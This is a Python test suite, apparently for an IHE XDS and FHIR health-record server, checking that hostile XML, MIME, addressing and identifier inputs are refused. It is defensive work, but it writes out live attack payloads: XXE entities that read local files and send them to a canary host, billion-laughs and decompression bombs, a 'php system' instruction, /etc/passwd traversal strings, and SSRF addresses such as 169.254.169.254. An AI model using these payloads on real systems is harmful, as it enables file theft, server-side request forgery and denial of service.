"""Attacks that are made here, on XML, MIME, addressing and identifiers: rows X, M, W and D of the matrix, and more.

Every one is sent through the doors of tests/attacks/doors.py, which hold each answer to the closed list, watched as
tests/attacks/conftest.py says.
"""

import gzip
import zlib

import pytest

from repository.index import StoredDocument
from repository.registration import other_octets
from tests import messages
from tests.attacks.conftest import Target
from tests.attacks.doors import SOAP_PATHS, TRANSACTIONS, Answer
from tests.builders import OTHER_PATIENT, PATIENT, a_replacement, a_submission, a_submission_set, an_entry
from xds.ebrim.write import write_submit_objects_request
from xds.errors import ErrorCode
from xds.vocabulary import LCM, RIM

HEAD = '<e:Envelope xmlns:e="http://www.w3.org/2003/05/soap-envelope">'
SECURITY = "http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd"
XOP = "http://www.w3.org/2004/08/xop/include"
SECONDS, OCTETS = 0.5, 10 * 2**20
STATUS = "('urn:oasis:names:tc:ebxml-regrep:StatusType:Approved')"


def fault(answer: Answer) -> list[str]:
    return messages.read(_response(answer)).fault if b"Fault" in answer.body else []


def codes(answer: Answer) -> list[str]:
    return messages.read(_response(answer)).codes


def _response(answer: Answer) -> messages.Response:
    headers = {"content-type": answer.content_type}
    return messages.Response(status=answer.status, headers=headers, body=answer.body)


def question(**header: str) -> bytes:
    slots = {"$XDSDocumentEntryPatientId": f"'{PATIENT}'", "$XDSDocumentEntryStatus": STATUS}
    return messages.envelope(messages.query_body(messages.FIND_DOCUMENTS, slots), messages.QUERY_ACTION, **header)


def laughs(levels: int, *, parameter: bool = False) -> str:
    """Entities that each name the one before ten times."""
    mark = "% " if parameter else ""
    sign = "%" if parameter else "&"
    lines = [f'<!ENTITY {mark}a0 "lol">']
    lines += [f'<!ENTITY {mark}a{n} "{f"{sign}a{n - 1};" * 10}">' for n in range(1, levels)]
    return "".join(lines)


def entities(canary_url: str, canary_file: str) -> dict[str, str]:
    """Document types, each of which would have a reader fetch, read or swell. X01, X02, X03"""
    return {
        "a file": f'<!DOCTYPE x [<!ENTITY e SYSTEM "{canary_file}">]>',
        "an address": f'<!DOCTYPE x [<!ENTITY e SYSTEM "{canary_url}">]>',
        "a public id": f'<!DOCTYPE x PUBLIC "-//X//EN" "{canary_url}">',
        "an external subset": f'<!DOCTYPE x SYSTEM "{canary_url}">',
        "a parameter entity": f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{canary_url}"> %p;]>',
        "a parameter entity in another": f'<!DOCTYPE x [<!ENTITY % f SYSTEM "{canary_file}"><!ENTITY % p "<!ENTITY &#37; s SYSTEM \'{canary_url}?%f;\'>"> %p; %s;]>',
        "a local subset redefined": f'<!DOCTYPE x SYSTEM "{canary_file}" [<!ENTITY % local "<!ENTITY e SYSTEM \'{canary_url}\'>">]>',
        "a notation": f'<!DOCTYPE x [<!NOTATION n SYSTEM "{canary_url}"><!ENTITY e SYSTEM "{canary_url}" NDATA n>]>',
        "laughs": f"<!DOCTYPE x [{laughs(10)}]>",
        "few laughs": f"<!DOCTYPE x [{laughs(5)}]>",
        "laughs of parameters": f"<!DOCTYPE x [{laughs(10, parameter=True)} %a9;]>",
        "a quadratic blow-up": f'<!DOCTYPE x [<!ENTITY a0 "{"A" * 50_000}">]>',
        "a circle": '<!DOCTYPE x [<!ENTITY a "&b;"><!ENTITY b "&a;">]>',
        "a circle of parameters": '<!DOCTYPE x [<!ENTITY % a "&#37;b;"><!ENTITY % b "&#37;a;"> %a;]>',
        "default attributes": '<!DOCTYPE x [<!ATTLIST x ID ID #IMPLIED xmlns CDATA "urn:other">]>',
        "nothing": "<!DOCTYPE x>",
        "in small letters": '<!doctype x [<!ENTITY e "x">]>',
    }


NAMES = tuple(entities("", ""))


@pytest.mark.parametrize("path", SOAP_PATHS)
@pytest.mark.parametrize("name", NAMES)
def test_x01_x02_x03_a_document_type_is_the_senders_fault(target: Target, path: str, name: str) -> None:
    found = entities(target.canary.url, target.canary.file_url)[name]
    uses = "&a9;" if name == "laughs" else "&a0;" * 1000 if "quadratic" in name else "&e;"
    for declaration in ("", '<?xml version="1.0"?>'):
        message = f"{declaration}{found}{HEAD}<e:Body><x>{uses}</x></e:Body></e:Envelope>".encode()
        with target.stopwatch.timing(f"{path} {name}"):
            answer = target.doors.simple(path, message)
        assert (answer.status, fault(answer)) == (400, ["env:Sender"])
    assert target.stopwatch.slowest < SECONDS


@pytest.mark.parametrize("name", NAMES)
def test_x01_x02_the_same_in_assertions_tokens_documents_and_messages(target: Target, name: str) -> None:
    found = entities(target.canary.url, target.canary.file_url)[name].encode()
    for octets in (found + b"<x>&e;</x>", found + b"<ClinicalDocument xmlns='urn:hl7-org:v3'>&e;</ClinicalDocument>"):
        target.doors.assertion(octets)
        target.doors.token(octets)
        target.doors.check(octets)
        target.doors.message(octets)
        assert target.doors.documents([octets]).status == 200


BOMBS = {
    "10^3 levels": "<a>" * 1000 + "</a>" * 1000,
    "10^6 levels": "<a>" * 10**6,
    "10^5 attributes": "<a " + " ".join(f"b{n}='1'" for n in range(10**5)) + "/>",
    "10^5 namespaces": "<a " + " ".join(f"xmlns:b{n}='u'" for n in range(10**5)) + "/>",
    "200 levels of 100 namespaces": "".join(
        "<a " + " ".join(f"xmlns:p{level}x{n}='u'" for n in range(100)) + ">" for level in range(200)
    )
    + "</a>" * 200,
    "10^6 elements": "<a/>" * 10**6,
    "7 MB of text": f"<a>{'x' * 7_000_000}</a>",
    "an attribute of 7 MB": f"<a b='{'x' * 7_000_000}'/>",
    "a name of 60 000 letters": f"<{'a' * 60_000}/>",
    "10^5 comments": "<a>" + "<!---->" * 10**5 + "</a>",
    "a comment of 7 MB": f"<a><!--{'x' * 7_000_000}--></a>",
    "10^6 references": f"<a>{'&#65;' * 10**6}</a>",
    "9 MB": f"<a>{'x' * 9_000_000}</a>",
}


@pytest.mark.parametrize("name", BOMBS)
def test_x04_bombs_of_depth_and_width_are_refused_in_time(target: Target, name: str) -> None:
    octets = BOMBS[name].encode()
    for transaction in ("ITI-18", "ITI-42", "ITI-44"):
        with target.stopwatch.timing(f"{transaction} {name}"):
            answer = target.doors.inside(transaction, octets)
        assert answer.status in (200, 400, 413)
        assert b"Success" not in answer.body
    with target.stopwatch.timing(f"assertion {name}"):
        target.doors.post(
            "/xds/registry",
            question(header=f"<s:Security xmlns:s='{SECURITY}'>{BOMBS[name]}</s:Security>"),
            messages.simple_type(),
        )


def test_x05_hints_of_schemas_are_not_followed(target: Target) -> None:
    hints = f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="u {target.canary.url}" xsi:noNamespaceSchemaLocation="{target.canary.url}"'
    message = question().replace(b"<e:Envelope ", f"<e:Envelope {hints} ".encode())
    answer = target.doors.simple("/xds/registry", message)
    assert (answer.status, b"Success" in answer.body) == (200, True)
    inside = question().replace(b"<q:AdhocQueryRequest ", f"<q:AdhocQueryRequest {hints} ".encode())
    assert target.doors.simple("/xds/registry", inside).status in (200, 400)


@pytest.mark.parametrize("place", ["before", "header", "body", "after"])
@pytest.mark.parametrize("kind", ["xml-stylesheet href='{url}'", "xinclude {url}", "php system('id')"])
def test_x06_instructions_are_the_senders_fault(target: Target, place: str, kind: str) -> None:
    one = f"<?{kind.format(url=target.canary.url)}?>".encode()
    sound = question()
    marks = {"header": b"</e:Header>", "body": b"<q:AdhocQueryRequest", "before": b"<e:Envelope", "after": b""}
    message = sound + one if place == "after" else sound.replace(marks[place], one + marks[place], 1)
    answer = target.doors.simple("/xds/registry", message)
    assert (answer.status, fault(answer)) == (400, ["env:Sender"])


@pytest.mark.parametrize("parse", ["xml", "text"])
def test_x06_inclusions_are_elements_like_others(target: Target, parse: str) -> None:
    for href in (target.canary.file_url, target.canary.url):
        include = f'<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="{href}" parse="{parse}"/>'
        for octets in (
            include,
            f"<r:Slot xmlns:r='{RIM}' name='x'><r:ValueList><r:Value>{include}</r:Value></r:ValueList></r:Slot>",
        ):
            for transaction in TRANSACTIONS:
                assert b"Success" not in target.doors.inside(transaction, octets.encode()).body


ENCODINGS = {
    "UTF-16 without mark": question().decode().replace("UTF-8", "UTF-16").encode("utf-16-le"),
    "UTF-32": question().decode().replace("UTF-8", "UTF-32").encode("utf-32"),
    "UTF-7": b'<?xml version="1.0" encoding="UTF-7"?>+ADw-x+AD4-',
    "UTF-7 of a sound question": question().replace(b"UTF-8", b"UTF-7"),
    "EBCDIC": question().decode().replace("UTF-8", "IBM037").encode("cp037"),
    "ISO-8859-1": question().replace(b"UTF-8", b"ISO-8859-1"),
    "overlong": question().replace(b"1.2.250", b"\xc0\xb1.2.250"),
    "NUL": question().replace(b"1.2.250", b"\x001.2.250"),
    "a surrogate": question().replace(b"1.2.250", b"\xed\xa0\x801.2.250"),
    "a reference to a surrogate": question().replace(b"1.2.250", b"&#xD800;1.2.250"),
    "a reference to NUL": question().replace(b"1.2.250", b"&#0;1.2.250"),
    "XML 1.1": question().replace(b'version="1.0"', b'version="1.1"'),
    "two declarations": b'<?xml version="1.0"?>' + question(),
    "a mark of another encoding": b"\xfe\xff" + question(),
    "something before": b" " + question(),
    "something behind": question() + b"<x/>",
}


@pytest.mark.parametrize("name", ENCODINGS)
def test_x07_other_encodings_and_versions_are_refused(target: Target, name: str) -> None:
    answer = target.doors.simple("/xds/registry", ENCODINGS[name])
    assert (answer.status, fault(answer)) == (400, ["env:Sender"])


def test_x07_utf_16_with_its_mark_is_read(target: Target) -> None:
    octets = question().decode().replace("UTF-8", "UTF-16").encode("utf-16")
    answer = target.doors.post("/xds/registry", octets, "application/soap+xml")
    assert (answer.status, b"Success" in answer.body) == (200, True)


@pytest.mark.parametrize("cut", ["<!---->", "<![CDATA[]]>"])
def test_x09_a_value_is_whole_or_refused_never_its_first_half(target: Target, cut: str) -> None:
    """A patient of another authority whose id begins like a known one's: never taken for the known one."""
    whole = PATIENT.id.encode()
    stranger = whole[:5] + cut.encode() + whole[5:]
    assert b"Success" in target.doors.simple("/xds/registry", question()).body
    answer = target.doors.simple("/xds/registry", question().replace(whole, stranger + b"0"))
    assert answer.status in (200, 400)
    assert b"ExtrinsicObject" not in answer.body


CONFUSED = {
    "two bodies": f"{HEAD}<e:Body><x/></e:Body><e:Body><x/></e:Body></e:Envelope>",
    "a header behind the body": f"{HEAD}<e:Body><x/></e:Body><e:Header/></e:Envelope>",
    "two headers": f"{HEAD}<e:Header/><e:Header/><e:Body><x/></e:Body></e:Envelope>",
    "two elements in the body": f"{HEAD}<e:Body><x/><x/></e:Body></e:Envelope>",
    "an empty body": f"{HEAD}<e:Body/></e:Envelope>",
    "no body": f"{HEAD}<e:Header/></e:Envelope>",
    "an envelope in an envelope": f"{HEAD}<e:Body>{HEAD}<e:Body><x/></e:Body></e:Envelope></e:Body></e:Envelope>",
    "a prefix that changes": f'{HEAD}<e:Body xmlns:e="urn:other"><x/></e:Body></e:Envelope>',
    "another root": '<x xmlns="http://www.w3.org/2003/05/soap-envelope"/>',
    "something behind the body": f"{HEAD}<e:Body><x/></e:Body><x/></e:Envelope>",
}


@pytest.mark.parametrize("name", CONFUSED)
def test_x10_a_confused_envelope_is_the_senders_fault(target: Target, name: str) -> None:
    for path in SOAP_PATHS:
        answer = target.doors.simple(path, CONFUSED[name].encode())
        assert (answer.status, fault(answer)[0]) == (400, "env:Sender")


@pytest.mark.parametrize("namespace", ["http://schemas.xmlsoap.org/soap/envelope/", "urn:other"])
def test_x10_another_version_is_a_version_mismatch(target: Target, namespace: str) -> None:
    message = f'<e:Envelope xmlns:e="{namespace}"><e:Body><x/></e:Body></e:Envelope>'.encode()
    answer = target.doors.simple("/xds/registry", message)
    assert (answer.status, fault(answer)) == (500, ["env:VersionMismatch"])


@pytest.mark.parametrize("value", ["1", "true"])
@pytest.mark.parametrize(
    ("role", "status"), [("", 500), ("next", 500), ("ultimateReceiver", 500), ("none", 200), ("urn:other", 200)]
)
def test_x11_what_must_be_understood_and_is_not_is_a_fault(target: Target, value: str, role: str, status: int) -> None:
    uri = f"http://www.w3.org/2003/05/soap-envelope/role/{role}" if role and ":" not in role else role
    roles = f' e:role="{uri}"' if role else ""
    answer = target.doors.simple(
        "/xds/registry", question(header=f'<z:h xmlns:z="urn:z" e:mustUnderstand="{value}"{roles}/>')
    )
    assert answer.status == status
    assert (b"NotUnderstood" in answer.body) == (status == 500)


LONG = {
    "1 MB of an id": "9" * 10**6,
    "an OID of 10^5 arcs": "1." * 10**5 + "1",
    "10^5 quotes": "'" * 10**5,
    "10^5 brackets": "(" * 10**5,
    "10^5 values": "','".join("a" * 10**5),
    "10^5 carets": "^" * 10**5,
    "10^5 ampersands": "&" * 10**5,
    "10^5 blanks": " " * 10**5,
}


@pytest.mark.parametrize("name", LONG)
@pytest.mark.parametrize(
    "slot", ["$XDSDocumentEntryPatientId", "$XDSDocumentEntryTypeCode", "$XDSDocumentEntryUniqueId"]
)
def test_x13_long_identifiers_are_refused_at_once(target: Target, name: str, slot: str) -> None:
    query = messages.GET_DOCUMENTS if slot.endswith("UniqueId") else messages.FIND_DOCUMENTS
    slots = {"$XDSDocumentEntryPatientId": f"'{PATIENT}'", "$XDSDocumentEntryStatus": STATUS, slot: f"('{LONG[name]}')"}
    if query == messages.GET_DOCUMENTS:
        slots = {slot: slots[slot]}
    with target.stopwatch.timing(name):
        answer = target.doors.inside("ITI-18", messages.query_body(query, slots))
    assert answer.status == 200
    assert b"ExtrinsicObject" not in answer.body
    with target.stopwatch.timing(name):
        target.doors.message(f"MSH|^~\\&|A|B|C|D|20260310||ADT^A04|1|P|2.3.1\rPID|||{LONG[name]}".encode())
    assert target.stopwatch.slowest < SECONDS


def provided(target: Target, *hrefs: str, parts: list[tuple[str, bytes]] | None = None, header: str = "") -> Answer:
    """ITI-41 whose documents are these includes."""
    entries = [an_entry(entry_uuid=f"D{number}", content=b"x") for number in range(len(hrefs))]
    includes = {
        one.entry_uuid: f'<i:Include xmlns:i="{XOP}" href="{href}"/>' for one, href in zip(entries, hrefs, strict=True)
    }
    root = messages.envelope(messages.provide_body(a_submission(*entries), includes), messages.PROVIDE, header=header)
    message = messages.multipart(root, [("d@test", b"x")] if parts is None else parts)
    return target.doors.post("/xds/repository", message, messages.multipart_type())


@pytest.mark.parametrize(
    "form",
    [
        "{url}",
        "HTTP:{url}",
        "//127.0.0.1/x",
        "ftp://127.0.0.1/x",
        "jar:{url}!/x",
        "data:text/plain,x",
        "{file}",
        "FILE:/etc/passwd",
        "/etc/passwd",
        "../../etc/passwd",
        "",
        " ",
        "#x",
        "cid",
        "CID:d@test",
        "mid:d@test",
    ],
)
def test_m01_m02_only_parts_of_the_message_are_included(target: Target, form: str) -> None:
    answer = provided(target, form.format(url=target.canary.url, file=target.canary.file_url))
    assert (answer.status, fault(answer)) == (400, ["env:Sender"])


@pytest.mark.parametrize(
    "form", ["cid:../../x", "cid:%00", "cid:%2e%2e/%2e%2e/etc/passwd", "cid:", "cid:/etc/passwd", "cid:" + "a" * 10**6]
)
def test_m02_m03_a_part_that_is_not_there_is_a_missing_document(target: Target, form: str) -> None:
    with target.stopwatch.timing(form[:40]):
        answer = provided(target, form)
    assert answer.status == 200
    assert "XDSMissingDocument" in codes(answer)
    assert target.stopwatch.slowest < SECONDS


def test_m04_one_part_stands_for_one_document(target: Target) -> None:
    assert provided(target, "cid:d@test", "cid:d%40test").status == 400
    assert provided(target, "cid:root@test").status == 400
    assert provided(target, *(["cid:d@test"] * 1000), parts=[("d@test", b"x" * 10**6)]).status == 400
    doubled = provided(target, "cid:d@test", parts=[("d@test", b"x"), ("d@test", b"y")])
    assert b"Success" not in doubled.body


@pytest.mark.parametrize("place", ["s:Security", "a:ReplyTo", "a:MessageID", "z:other"])
def test_m05_includes_stand_in_documents_alone(target: Target, place: str) -> None:
    names = f'xmlns:s="{SECURITY}" xmlns:z="urn:z"'
    header = f'<{place} {names}><i:Include xmlns:i="{XOP}" href="cid:d@test"/></{place}>'
    assert provided(target, "cid:d@test", header=header).status == 400


def raw_parts(*parts: bytes, end: bytes = b"--x--\r\n") -> bytes:
    return b"".join(b"--x\r\n" + one + b"\r\n" for one in parts) + end


ROOT_PART = b"Content-Type: application/xop+xml\r\nContent-ID: <root@test>\r\n\r\n" + question()
PARTS = {
    "10^5 parts": raw_parts(ROOT_PART, *([b"\r\n"] * 10**5)),
    "10^4 headers": raw_parts(b"".join(b"X: y\r\n" for _ in range(10**4)) + ROOT_PART),
    "a header of 1 MB": raw_parts(b"X: " + b"y" * 10**6 + b"\r\n" + ROOT_PART),
    "10^4 parts in parts": raw_parts(
        b"".join(b'Content-Type: multipart/mixed; boundary="x"\r\n\r\n--x\r\n' for _ in range(10**4))
    ),
    "a preamble without end": b"p" * 9_000_000,
    "lines without end": b"\r\n" * 10**6,
    "no end": raw_parts(ROOT_PART, end=b""),
    "half a boundary at the end": raw_parts(ROOT_PART, end=b"--"),
    "a folded header": raw_parts(b"Content-Type: application/xop+xml;\r\n charset=UTF-7\r\n\r\n<x/>"),
    "another transfer encoding": raw_parts(b"Content-Transfer-Encoding: x-uuencode\r\n" + ROOT_PART),
    "two transfer encodings": raw_parts(
        b"Content-Transfer-Encoding: base64\r\nContent-Transfer-Encoding: binary\r\n" + ROOT_PART
    ),
    "a root of another type": raw_parts(b"Content-Type: text/html\r\n\r\n<html/>"),
    "a header of controls": raw_parts(b"Content-ID: <\x00\x1b[31m\r\r\n>\r\n" + ROOT_PART),
}


@pytest.mark.parametrize("name", PARTS)
def test_m06_m07_m08_bombs_and_tricks_of_parts_are_refused_in_time(target: Target, name: str) -> None:
    for path in ("/xds/repository", "/xds/recipient", "/xds/registry"):
        with target.stopwatch.timing(f"{path} {name}"):
            answer = target.doors.post(path, PARTS[name], 'multipart/related; boundary=x; type="application/xop+xml"')
        assert answer.status in (200, 400, 413, 415)


@pytest.mark.parametrize(
    "kind",
    [
        "multipart/related",
        "multipart/related; boundary=",
        f"multipart/related; boundary={'x' * 10_000}",
        'multipart/related; boundary="a\r\nb"',
        "multipart/form-data; boundary=x",
        'multipart/related; boundary=x; type="text/html"',
        "multipart/related; boundary=x; start=<gone@test>",
        "multipart/related; boundary=x; boundary=y",
        "text/plain",
        "",
        ";",
        "application/soap+xml; charset=UTF-7",
    ],
)
def test_m09_other_content_types_are_refused(target: Target, kind: str) -> None:
    answer = target.doors.post("/xds/repository", raw_parts(ROOT_PART), kind)
    assert answer.status in (400, 415)


@pytest.mark.parametrize(
    ("coding", "octets"),
    [
        ("gzip", gzip.compress(bytes(10**7))),
        ("gzip", gzip.compress(gzip.compress(bytes(10**7)))),
        ("deflate", zlib.compress(bytes(10**7))),
        ("gzip", gzip.compress(question())[:-9]),
        ("br", b"x"),
        ("gzip, gzip", b"x"),
        ("x" * 5000, b"x"),
    ],
)
def test_m10_compressed_messages_are_not_taken(target: Target, coding: str, octets: bytes) -> None:
    for path in SOAP_PATHS:
        answer = target.doors.post(path, octets, messages.simple_type(), content_encoding=coding)
        assert answer.status == 415


def test_m13_octets_of_the_same_sha_1_and_size_are_others() -> None:
    def stored(sha256: str) -> StoredDocument:
        return StoredDocument(
            unique_id="1.2.3", size=320, sha1="d" * 40, sha256=sha256, blob_key=f"{sha256}/x", mime_type="text/plain"
        )

    errors = list(other_octets({"urn:uuid:x": stored("a" * 64)}, [stored("b" * 64)]))
    assert [one.code for one in errors] == [ErrorCode.NON_IDENTICAL_HASH]
    assert not list(other_octets({"urn:uuid:x": stored("a" * 64)}, [stored("a" * 64)]))


@pytest.mark.parametrize("header", ["ReplyTo", "FaultTo"])
@pytest.mark.parametrize(
    "form",
    [
        "{url}",
        "https://other.example/",
        "http://169.254.169.254/latest/",
        "{file}",
        "http://[::1]/",
        "http://2130706433/",
        "http://user@127.0.0.1/",
        "http://www.w3.org/2005/08/addressing/none",
        "http://www.w3.org/2005/08/addressing/anonymous/x",
        "x",
    ],
)
def test_w01_answers_go_nowhere_else(target: Target, header: str, form: str) -> None:
    address = form.format(url=target.canary.url, file=target.canary.file_url)
    answer = target.doors.simple(
        "/xds/registry", question(header=f"<a:{header}><a:Address>{address}</a:Address></a:{header}>")
    )
    assert (answer.status, fault(answer)) == (
        400,
        ["env:Sender", "wsa:InvalidAddressingHeader", "wsa:OnlyAnonymousAddressSupported"],
    )


_BODIES = {
    "ITI-18": messages.query_body(messages.FIND_DOCUMENTS, {}),
    "ITI-43": messages.retrieve_body(("1.2", "1.3")),
    "ITI-62": f'<l:RemoveObjectsRequest xmlns:l="{LCM}"/>'.encode(),
    "ITI-42": write_submit_objects_request(a_submission(an_entry(content=b"x")).objects),
}


@pytest.mark.parametrize("transaction", _BODIES)
@pytest.mark.parametrize("other", [*_BODIES, "ITI-86", "none", "nothing", "long"])
def test_w02_an_action_with_the_body_of_another_runs_neither(target: Target, transaction: str, other: str) -> None:
    path, own = TRANSACTIONS[transaction]
    actions = {"none": "", "nothing": "urn:x", "long": "x" * 10_000}
    action = actions[other] if other in actions else TRANSACTIONS[other][1]
    if other == transaction:
        return
    for named, told in ((action, ""), (own, action or "urn:y"), (action or "urn:y", own)):
        answer = target.doors.post(path, messages.envelope(_BODIES[transaction], named), messages.simple_type(told))
        assert (answer.status, fault(answer)[0]) == (400, "env:Sender"), (named, told)


@pytest.mark.parametrize("name", ["To", "MessageID", "Action", "ReplyTo", "From"])
def test_w03_a_header_stands_once(target: Target, name: str) -> None:
    inside = (
        "<a:Address>http://www.w3.org/2005/08/addressing/anonymous</a:Address>"
        if name in ("ReplyTo", "From")
        else "urn:x"
    )
    answer = target.doors.simple("/xds/registry", question(header=f"<a:{name}>{inside}</a:{name}>" * 2))
    assert (answer.status, fault(answer)[-1]) == (400, "wsa:InvalidCardinality")


def test_w03_an_answer_repeats_little_and_no_markup(target: Target) -> None:
    message = question(
        header="<a:ReplyTo><a:Address>http://www.w3.org/2005/08/addressing/anonymous</a:Address><a:ReferenceParameters><s:Security xmlns:s='x'>secret</s:Security></a:ReferenceParameters></a:ReplyTo>"
    )
    start, end = message.index(b"<a:MessageID>") + 13, message.index(b"</a:MessageID>")
    long = target.doors.simple("/xds/registry", message[:start] + b"m" * 10**6 + message[end:])
    marked = target.doors.simple("/xds/registry", message[:start] + b"&lt;/x&gt;&amp;" + message[end:])
    assert long.body.count(b"m" * 1025) == 0
    assert b"<wsa:RelatesTo>&lt;/x&gt;&amp;</wsa:RelatesTo>" in marked.body
    assert b"secret" not in long.body + marked.body


def test_d02_what_is_not_there_is_the_same_answer_whoever_it_belongs_to(target: Target) -> None:
    answers = {
        target.doors.inside("ITI-43", messages.retrieve_body((repository, "1.2.3.4"))).body.partition(b"codeContext")[0]
        for repository in ("1.2.3", "1.2.4")
    }
    assert len({one.count(b"RegistryError") for one in answers}) == 1


def submitted(target: Target, submission: object) -> Answer:
    return target.doors.inside("ITI-42", write_submit_objects_request(submission.objects))  # type: ignore[attr-defined]


def test_d03_nothing_is_taken_over_by_its_id(target: Target) -> None:
    """The entryUUID and uniqueId of what is stored, for other content or another patient."""
    mine = an_entry(entry_uuid="urn:uuid:6d7a3a52-10c0-4e0f-9a53-3b8a4bd00001", content=b"x")
    owner = a_submission_set()
    assert b"ResponseStatusType:Success" in submitted(target, a_submission(mine, submission_set=owner)).body
    stolen = an_entry(entry_uuid=mine.entry_uuid, content=b"y", patient_id=OTHER_PATIENT)
    theirs = a_submission_set(patient_id=OTHER_PATIENT)
    again = an_entry(content=b"z", patient_id=OTHER_PATIENT)
    cases = {
        "entryUUID": a_submission(stolen, submission_set=theirs),
        "uniqueId": a_submission(
            an_entry(content=b"y", unique_id=mine.unique_id, patient_id=OTHER_PATIENT),
            submission_set=a_submission_set(patient_id=OTHER_PATIENT),
        ),
        "SubmissionSet": a_submission(
            again, submission_set=a_submission_set(unique_id=owner.unique_id, patient_id=OTHER_PATIENT)
        ),
        "replacement": a_submission(
            again,
            submission_set=a_submission_set(patient_id=OTHER_PATIENT),
            associations=(a_replacement(again, mine.entry_uuid),),
        ),
    }
    expected = {
        "entryUUID": "XDSRegistryDuplicateUniqueIdInMessage XDSRegistryMetadataError XDSDuplicateUniqueIdInRegistry",
        "uniqueId": "XDSNonIdenticalHash XDSNonIdenticalSize XDSDuplicateUniqueIdInRegistry XDSRegistryMetadataError",
        "SubmissionSet": "XDSDuplicateUniqueIdInRegistry",
        "replacement": "XDSPatientIdDoesNotMatch",
    }
    for name, case in cases.items():
        found = codes(submitted(target, case))
        assert found, name
        assert set(found) & set(expected[name].split()), (name, found)
    found = target.doors.inside(
        "ITI-18",
        messages.query_body(
            messages.GET_DOCUMENTS, {"$XDSDocumentEntryEntryUUID": f"('{mine.entry_uuid}')"}, "LeafClass"
        ),
    )
    assert str(mine.hash).encode() in found.body
    assert OTHER_PATIENT.id.encode() not in found.body


def test_d04_no_identifier_is_a_path(target: Target) -> None:
    before = {one for one in target.folder.rglob("*") if one.is_file() and one.parent.name != "open"}
    for name in ("../../../x", "/etc/passwd", "a\u202e/../b", "x" * 65_536, "..", "%2e%2e%2f", "CON", "a b"):
        entry = an_entry(entry_uuid="D1", content=b"x", unique_id="1.2.3")
        body = messages.provide_body(a_submission(entry), {"D1": "eA=="}).replace(b'"1.2.3"', f'"{name}"'.encode())
        answer = target.doors.inside("ITI-41", body)
        assert b"ResponseStatusType:Success" not in answer.body
        answer = target.doors.inside("ITI-43", messages.retrieve_body(("1.2.3", name)))
        assert b"ResponseStatusType:Failure" in answer.body or answer.status == 400
    after = {one for one in target.folder.rglob("*") if one.is_file() and one.parent.name != "open"}
    assert {one for one in after - before if "documents" not in one.parts and "audit" not in one.name} == set()


@pytest.mark.parametrize("count", [2_490, 10_000])
def test_d05_bombs_of_ebrim_have_an_answer_in_time(target: Target, count: int) -> None:
    objects = "".join(f'<r:ExtrinsicObject id="D{n}" objectType="x"/>' for n in range(count))
    links = "".join(
        f'<r:Association id="A{n}" associationType="urn:ihe:iti:2007:AssociationType:RPLC" sourceObject="A{n}" targetObject="A{(n + 1) % count}"/>'
        for n in range(count)
    )
    for listed in (objects, links, "<r:Slot/>" * count, "<r:ObjectRef id='x'/>" * count):
        body = f'<l:SubmitObjectsRequest xmlns:l="{LCM}" xmlns:r="{RIM}"><r:RegistryObjectList>{listed}</r:RegistryObjectList></l:SubmitObjectsRequest>'
        for transaction in ("ITI-42", "ITI-57"):
            with target.stopwatch.timing(f"{transaction} {listed[:20]}"):
                answer = target.doors.inside(transaction, body.encode())
            assert b"ResponseStatusType:Success" not in answer.body


def test_d06_a_removal_that_may_not_be_removes_nothing(target: Target) -> None:
    unknown = f'<l:RemoveObjectsRequest xmlns:l="{LCM}" xmlns:r="{RIM}"><r:ObjectRefList><r:ObjectRef id="urn:uuid:00000000-0000-4000-8000-000000000000"/></r:ObjectRefList></l:RemoveObjectsRequest>'
    assert codes(target.doors.inside("ITI-62", unknown.encode())) == ["UnresolvedReferenceException"]
    assert codes(target.doors.inside("ITI-86", messages.remove_body(("1.9.9", "1.2.3")))) == ["XDSUnknownRepositoryId"]
    refused = target.doors.fhir("DELETE", "/fhir/DocumentReference/x")
    assert refused.status in (404, 405)


@pytest.mark.parametrize("method", ["POST", "PUT", "PATCH"])
def test_f03_addresses_in_resources_are_never_called(target: Target, method: str) -> None:
    url = target.canary.url
    resource = (
        f'{{"resourceType":"Bundle","type":"transaction","meta":{{"profile":["{url}"]}},"entry":[{{"fullUrl":"{url}","resource":'
        f'{{"resourceType":"DocumentReference","content":[{{"attachment":{{"url":"{url}"}}}}]}}}}]}}'
    ).encode()
    for path in ("/fhir", "/fhir/DocumentReference", "/fhir/Subscription", "/fhir/DocumentReference/$validate"):
        assert target.doors.fhir(method, path, resource).status in (400, 404, 405, 412, 422)
    assert target.doors.fhir("GET", "/fhir/DocumentReference", query=f"subject={url}&_profile={url}").status in (
        200,
        400,
    )


@pytest.mark.parametrize(
    "query", ["_summary=count", "_include=*", "_has:x:y:z=1", "subject.name=x", "_elements=*", "_count=9999999"]
)
def test_f04_searches_that_would_tell_more_tell_nothing(target: Target, query: str) -> None:
    found = target.doors.fhir("GET", "/fhir/DocumentReference", query=query)
    assert found.status in (200, 400)
    assert b'"resourceType":"DocumentReference"' not in found.body
